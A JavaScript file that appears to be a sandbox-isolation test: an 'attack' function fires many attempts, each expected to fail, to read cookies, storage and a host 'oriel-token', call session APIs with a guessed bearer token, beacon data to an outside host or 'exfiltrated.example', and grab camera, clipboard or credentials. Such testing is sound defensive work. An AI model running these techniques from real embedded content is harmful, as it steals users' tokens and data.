// Each try returns what it got hold of. One that throws, times out or returns
// nothing has failed, as it should.
const soon = (promise, ms = 1500) =>
  Promise.race([promise, new Promise((_, no) => setTimeout(no, ms, new Error("nothing came")))]);
const loaded = (tag, attributes) =>
  new Promise((yes, no) => {
    const element = Object.assign(document.createElement(tag), attributes);
    element.onload = () => yes(tag);
    element.onerror = () => no(new Error("refused"));
    document.body.append(element);
  });
const frame = (attributes) => {
  const element = Object.assign(document.createElement("iframe"), attributes);
  document.body.append(element);
  return element;
};
const clicked = (tag, attributes) => {
  const element = Object.assign(document.createElement(tag), attributes);
  document.body.append(element);
  element.click?.();
  return element;
};
const storage = {
  localStorage: () => localStorage.getItem("secret"),
  sessionStorage: () => sessionStorage.getItem("secret"),
  cookie: () => (document.cookie.includes("secret") ? document.cookie : ""),
  cookieStore: async () => (await cookieStore.getAll()).map((c) => c.name).join(),
  cache: async () => (await caches.keys()).join(),
  indexedDB: async () => (await indexedDB.databases()).map((d) => d.name).join(),
  files: async () => {
    const names = [];
    for await (const name of (await navigator.storage.getDirectory()).keys()) names.push(name);
    return names.join();
  },
  locks: async () => (await navigator.locks.query()).held.map((l) => l.name).join(),
  broadcast: (env) =>
    soon(
      new Promise((yes) => {
        const channel = new BroadcastChannel("secret");
        channel.onmessage = (event) => yes(event.data);
        channel.postMessage("give");
      }),
    ),
  "document by frames": (env) => top.frames[env.victim.index].frames[0].document.title,
  "storage by frames": (env) => top.frames[env.victim.index].frames[0].localStorage.secret,
  "document fetched": async (env) => (await fetch(env.victim.document)).status,
  "document fetched blindly": async (env) => (await fetch(env.victim.document, { mode: "no-cors" })).type,
  "document in a frame": (env) =>
    soon(
      new Promise((yes) => {
        const f = frame({ src: env.victim.document });
        addEventListener("message", (event) => event.source === f.contentWindow && yes("it speaks"));
      }),
    ),
  "document.domain": () => {
    document.domain = "localhost";
    return "set to " + document.domain;
  },
  "cookie for all": () => {
    document.cookie = "wide=1; domain=localhost";
    document.cookie = "wider=1; domain=.localhost; path=/";
    return document.cookie.includes("wide") ? document.cookie : "";
  },
  "shared worker": () => new SharedWorker("data:text/javascript,1").port && soon(loaded("script", { src: "data:," })),
  "service worker": async () => (await navigator.serviceWorker.register(location.href)).scope,
  "service worker at the root": async () => (await navigator.serviceWorker.register("/sw.js", { scope: "/" })).scope,
  worker: () =>
    soon(
      new Promise((yes) => {
        new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))).onmessage = () => yes("runs");
      }),
    ),
};

const workbench = {
  "top document": () => top.document.title,
  "parent document": () => parent.document.body.outerHTML,
  "top address": () => top.location.href,
  "top storage": () => top.sessionStorage.getItem("oriel-token"),
  "top name": () => top.name,
  opener: () => top.opener?.location.href,
  "own referrer": () => document.referrer,
  ancestors: (env) => [...(location.ancestorOrigins ?? [])].filter((o) => o.includes("token")).join(),
  fetch: async (env) => (await fetch(env.page + "/api/session")).status,
  "fetch with a token": async (env) =>
    (await fetch(env.page + "/api/session", { headers: { Authorization: "Bearer " + env.guess } })).status,
  "fetch blindly": async (env) =>
    (await fetch(env.page + "/api/call", { method: "POST", mode: "no-cors", body: "{}" })).type,
  "fetch as JSON": async (env) =>
    (
      await fetch(env.page + "/api/call", {
        method: "POST",
        headers: { "content-type": "application/json" },
        body: env.call,
      })
    ).status,
  xhr: (env) =>
    soon(
      new Promise((yes, no) => {
        const x = new XMLHttpRequest();
        x.open("GET", env.page + "/api/session");
        x.onload = () => yes(x.status);
        x.onerror = no;
        x.send();
      }),
    ),
  socket: (env) =>
    soon(
      new Promise((yes, no) => {
        const s = new WebSocket(env.page.replace("http", "ws") + "/api/events");
        s.onopen = () => yes("open");
        s.onerror = no;
      }),
    ),
  "event source": (env) =>
    soon(
      new Promise((yes, no) => {
        const s = new EventSource(env.page + "/api/events");
        s.onopen = () => yes("open");
        s.onerror = no;
      }),
    ),
  beacon: (env) => (navigator.sendBeacon(env.page + "/api/call", env.call), ""),
  image: (env) => soon(loaded("img", { src: env.page + "/main.css" })),
  script: (env) => soon(loaded("script", { src: env.page + "/main.js" })),
  module: (env) => soon(import(env.page + "/main.js")).then(() => "imported"),
  style: (env) => soon(loaded("link", { rel: "stylesheet", href: env.page + "/main.css" })),
  object: (env) => soon(loaded("object", { data: env.page + "/" })),
  embed: (env) => soon(loaded("embed", { src: env.page + "/" })),
  frame: (env) => {
    const f = frame({ src: env.page + "/" });
    return soon(new Promise((yes) => (f.onload = yes))).then(() => f.contentDocument?.title || "");
  },
  form: (env) => {
    const f = clicked("form", { action: env.page + "/api/call", method: "post", target: "_blank" });
    f.submit();
    return "";
  },
  popup: (env) => open(env.page + "/")?.location.href,
  "popup of ours": (env) => {
    const w = open("about:blank");
    return w ? "opened" : "";
  },
};

const outside = {
  fetch: async (env) => (await fetch(env.beacon + "/fetch", { mode: "no-cors" })).type,
  keepalive: async (env) => (await fetch(env.beacon + "/keepalive", { mode: "no-cors", keepalive: true })).type,
  image: (env) => soon(loaded("img", { src: env.beacon + "/image" })),
  srcset: (env) => soon(loaded("img", { srcset: env.beacon + "/srcset 1x" })),
  script: (env) => soon(loaded("script", { src: env.beacon + "/script" })),
  import: (env) => soon(import(env.beacon + "/import")).then(() => "imported"),
  style: (env) => soon(loaded("link", { rel: "stylesheet", href: env.beacon + "/style" })),
  "style import": (env) => {
    document.head.append(
      Object.assign(document.createElement("style"), {
        textContent: `@import "${env.beacon}/css-import"; body{background:url(${env.beacon}/css-url)}`,
      }),
    );
  },
  font: (env) => new FontFace("x", `url(${env.beacon}/font)`).load().then(() => "loaded"),
  beacon: (env) => (navigator.sendBeacon(env.beacon + "/beacon", "x"), ""),
  ping: (env) => void clicked("a", { href: "#x", ping: env.beacon + "/ping" }),
  prefetch: (env) => soon(loaded("link", { rel: "prefetch", href: env.beacon + "/prefetch" }), 500),
  preload: (env) => soon(loaded("link", { rel: "preload", as: "image", href: env.beacon + "/preload" }), 500),
  modulepreload: (env) => soon(loaded("link", { rel: "modulepreload", href: env.beacon + "/modulepreload" }), 500),
  prerender: (env) =>
    void document.head.append(
      Object.assign(document.createElement("script"), {
        type: "speculationrules",
        textContent: JSON.stringify({ prefetch: [{ source: "list", urls: [env.beacon + "/speculation"] }] }),
      }),
    ),
  manifest: (env) => soon(loaded("link", { rel: "manifest", href: env.beacon + "/manifest" }), 300),
  icon: (env) => soon(loaded("link", { rel: "icon", href: env.beacon + "/icon" }), 300),
  audio: (env) => soon(new Audio(env.beacon + "/audio").play()).then(() => "plays"),
  svg: (env) => {
    document.body.insertAdjacentHTML(
      "beforeend",
      `<svg><image href="${env.beacon}/svg-image"/><use href="${env.beacon}/svg-use#x"/></svg>`,
    );
  },
  track: (env) => {
    document.body.insertAdjacentHTML(
      "beforeend",
      `<video poster="${env.beacon}/poster"><source src="${env.beacon}/video"><track src="${env.beacon}/track" default></video>`,
    );
  },
  object: (env) => soon(loaded("object", { data: env.beacon + "/object" })),
  embed: (env) => soon(loaded("embed", { src: env.beacon + "/embed" })),
  frame: (env) => void frame({ src: env.beacon + "/frame" }),
  base: (env) => {
    const base = document.createElement("base");
    base.href = env.beacon + "/base/";
    document.head.append(base);
    const moved = document.baseURI.startsWith(env.beacon);
    base.remove();
    return moved ? "moved" : "";
  },
  socket: (env) =>
    soon(
      new Promise((yes, no) => {
        const s = new WebSocket(env.beacon.replace("http", "ws") + "/socket");
        s.onopen = yes;
        s.onerror = no;
      }),
    ),
  transport: (env) =>
    soon(new WebTransport(env.beacon.replace("http:", "https:") + "/transport").ready).then(() => "ready"),
  eval: () => eval("'ran'"),
  Function: () => new Function("return 'ran'")(),
  "timer of text": () => {
    globalThis.timed = "";
    setTimeout("globalThis.timed = 'ran'");
    return soon(new Promise((yes) => setTimeout(() => yes(globalThis.timed), 200)));
  },
  wasm: () => new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])) && "compiled",
  "srcdoc frame": (env) =>
    new Promise((yes) => {
      addEventListener("message", (e) => e.data?.inner && yes(e.data.inner));
      frame({
        srcdoc:
          `<script>fetch("${env.beacon}/srcdoc",{mode:"no-cors"}).then(()=>parent.postMessage({inner:"fetched"},"*"),()=>parent.postMessage({inner:""},"*"))</scr` +
          `ipt>`,
      });
    }),
  "blank frame": async (env) => {
    const f = frame({});
    return (await f.contentWindow.fetch(env.beacon + "/blank", { mode: "no-cors" })).type;
  },
  "data frame": (env) =>
    soon(
      new Promise((yes) => {
        addEventListener("message", (e) => e.data?.inner && yes(e.data.inner));
        frame({ src: `data:text/html,<script>parent.postMessage({inner:'runs'},'*')</scr` + `ipt>` });
      }),
      800,
    ),
  "blob frame": (env) =>
    soon(
      new Promise((yes) => {
        addEventListener("message", (e) => e.data?.inner && yes(e.data.inner));
        frame({
          src: URL.createObjectURL(
            new Blob([`<script>parent.postMessage({inner:'runs'},'*')</scr` + `ipt>`], { type: "text/html" }),
          ),
        });
      }),
      800,
    ),
  preconnect: (env) => void clicked("link", { rel: "preconnect", href: env.tcp }),
  "dns-prefetch": (env) => void clicked("link", { rel: "dns-prefetch", href: "//exfiltrated.example" }),
  webrtc: async (env) => {
    const peer = new RTCPeerConnection({
      iceServers: [{ urls: "stun:" + env.udp }, { urls: "turn:" + env.udp, username: "secret", credential: "x" }],
    });
    peer.createDataChannel("x");
    await peer.setLocalDescription(await peer.createOffer());
    await new Promise((yes) => setTimeout(yes, 1000));
    return "offered";
  },
};

const devices = {
  fullscreen: () => document.documentElement.requestFullscreen().then(() => "granted"),
  "pointer lock": () => soon(document.body.requestPointerLock() ?? Promise.reject()).then(() => "granted"),
  camera: () => navigator.mediaDevices.getUserMedia({ video: true }).then(() => "granted"),
  screen: () => navigator.mediaDevices.getDisplayMedia().then(() => "granted"),
  location: () => soon(new Promise((yes, no) => navigator.geolocation.getCurrentPosition(() => yes("granted"), no))),
  "clipboard read": () => navigator.clipboard.readText().then((text) => "read: " + text),
  "clipboard write": () => navigator.clipboard.writeText("x").then(() => "written"),
  notifications: () => soon(Notification.requestPermission()).then((p) => (p === "granted" ? p : "")),
  usb: () => navigator.usb.requestDevice({ filters: [] }).then(() => "granted"),
  midi: () => soon(navigator.requestMIDIAccess()).then(() => "granted"),
  payment: () =>
    new PaymentRequest([{ supportedMethods: "https://x.example" }], {
      total: { label: "x", amount: { currency: "EUR", value: "1" } },
    })
      .canMakePayment()
      .then((c) => (c ? "granted" : "")),
  credentials: () =>
    soon(navigator.credentials.get({ publicKey: { challenge: new Uint8Array(8) } }), 800).then(() => "granted"),
  alert: () => {
    const start = performance.now();
    alert("x");
    return performance.now() - start > 300 ? "shown" : "";
  },
  confirm: () => (confirm("x") ? "confirmed" : ""),
  prompt: () => prompt("x"),
  print: () => {
    const start = performance.now();
    print();
    return performance.now() - start > 300 ? "shown" : "";
  },
  download: () => {
    clicked("a", { href: "data:text/plain,x", download: "x.exe" });
    return "";
  },
  "file picker": () => showOpenFilePicker().then(() => "granted"),
  "storage access": () => document.requestStorageAccess?.().then(() => "granted without need"),
};

// What the browser's features say of themselves, whether or not the machine has
// the device.
devices["allowed features"] = () =>
  [
    "camera",
    "microphone",
    "geolocation",
    "clipboard-read",
    "clipboard-write",
    "display-capture",
    "fullscreen",
    "usb",
    "hid",
    "serial",
    "midi",
    "payment",
    "publickey-credentials-get",
    "window-management",
    "local-fonts",
    "idle-detection",
    "screen-wake-lock",
    "xr-spatial-tracking",
    "autoplay",
    "local-network-access",
    "storage-access-api",
  ]
    .filter((name) => document.featurePolicy.allowsFeature(name))
    .join();

globalThis.attack = async (env) => {
  // What calls this is the browser's debugger, for which eval is always allowed.
  await new Promise((done) => setTimeout(done));
  const got = {};
  const attempts = Object.entries({ storage, workbench, outside, devices }).flatMap(([group, some]) =>
    Object.entries(some).map(([name, attempt]) => [`${group}: ${name}`, attempt]),
  );
  await Promise.all(
    attempts.map(async ([name, attempt]) => {
      const outcome = Promise.resolve().then(() => attempt(env));
      got[name] = await soon(outcome, 2500).then(
        (found) => String(found ?? ""),
        () => "",
      );
    }),
  );
  return got;
};
